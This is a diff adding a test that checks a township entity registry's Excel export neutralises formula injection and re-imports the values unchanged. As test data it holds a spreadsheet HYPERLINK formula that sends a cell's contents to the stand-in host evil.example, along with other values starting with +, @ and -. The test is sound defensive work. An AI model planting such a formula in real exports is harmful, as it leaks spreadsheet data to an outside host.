@@ -390,6 +390,45 @@ describe('entity export', () => {
     expect(frows.slice(1).every((r) => r[1] === '企业' && String(r[10]).includes('畜牧'))).toBe(true);
   });
 
+  it('exports text that looks like a formula as a literal, and re-imports it unchanged', async () => {
+    const name = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")';
+    const created = await townA({
+      method: 'POST',
+      url: '/api/entities',
+      payload: {
+        name,
+        type: 'cooperative',
+        creditCode: credit(),
+        legalRep: '王建国',
+        phone: '13800138000',
+        address: '+1+2 土桥镇',
+        townCode: TOWN_A,
+        industries: ['vegetables'],
+        mainProducts: ['@白菜', '-菠菜'],
+        remarks: "'=已带引号",
+      },
+    });
+    expect(created.statusCode, created.body).toBe(201);
+    const res = await townA({ url: `/api/entities/export?q=${encodeURIComponent('HYPERLINK')}` });
+    const rows = sheetRows((await readXlsx(res.rawPayload)).worksheets[0] as ExcelJS.Worksheet);
+    expect(rows).toHaveLength(2);
+    const cells = rows[1] as unknown[];
+    expect(cells[0]).toBe(`'${name}`); // text, not { formula }
+    expect(cells[6]).toBe("'+1+2 土桥镇");
+    expect(cells[11]).toBe("'@白菜、-菠菜");
+    expect(cells[18]).toBe("''=已带引号");
+    expect(cells.every((c) => typeof c !== 'string' || !/^[=+\-@]/.test(c))).toBe(true);
+
+    const again = (await upload(townA, res.rawPayload)).json();
+    expect(again).toMatchObject({ failed: 0, created: 0, updated: 0, unchanged: 1, committed: true });
+    const [stored] = await byName(name);
+    expect(stored).toMatchObject({
+      address: '+1+2 土桥镇',
+      mainProducts: ['@白菜', '-菠菜'],
+      remarks: "'=已带引号",
+    });
+  });
+
   it('refuses a masked ID card for a new entity', async () => {
     const r = (
       await upload(
